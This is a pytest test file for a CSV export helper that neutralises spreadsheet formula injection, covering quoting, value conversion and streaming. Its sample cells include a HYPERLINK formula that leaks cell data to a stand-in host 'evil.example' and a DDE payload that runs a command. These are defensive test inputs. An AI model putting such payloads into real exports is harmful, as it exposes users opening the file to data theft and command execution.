"""CSV cells that a spreadsheet would run as formulas are neutralised; the rest is kept."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from certificates.spreadsheet import cell_text, csv_lines, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        '=cmd|" /C calc"!A0',
    ],
)
def test_a_cell_that_starts_a_formula_becomes_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["alice@example.com", "CN=Alice,O=Example", "", "1a2b", " =not first", "'quoted"]
)
def test_other_cells_are_kept_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_values_become_text_before_they_are_checked() -> None:
    assert cell_text(None) == ""
    assert cell_text(datetime(2027, 1, 2, 3, 4, tzinfo=UTC)) == "2027-01-02T03:04:00+00:00"
    assert cell_text({"b": 1, "a": "x"}) == '{"a": "x", "b": 1}'
    assert cell_text(-5) == "-5"


def test_csv_lines_quote_and_neutralise_every_cell_read_back_by_a_csv_reader() -> None:
    rows = [
        [1, "=2+3", 'with "quotes", commas\nand a line break', None],
        [2, "-1", {"reason": "@home"}, datetime(2027, 1, 1, tzinfo=UTC)],
    ]
    text = "".join(csv_lines(["id", "cell", "note", "at"], rows))
    assert text.endswith("\r\n")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [
        ["id", "cell", "note", "at"],
        ["1", "'=2+3", 'with "quotes", commas\nand a line break', ""],
        ["2", "'-1", '{"reason": "@home"}', "2027-01-01T00:00:00+00:00"],
    ]


def test_csv_lines_yield_one_line_per_row_as_they_go() -> None:
    def rows():  # type: ignore[no-untyped-def]
        yield ["a"]
        raise AssertionError("read only as far as asked")

    lines = csv_lines(["h"], rows())
    assert next(lines) == "h\r\n"
    assert next(lines) == "a\r\n"
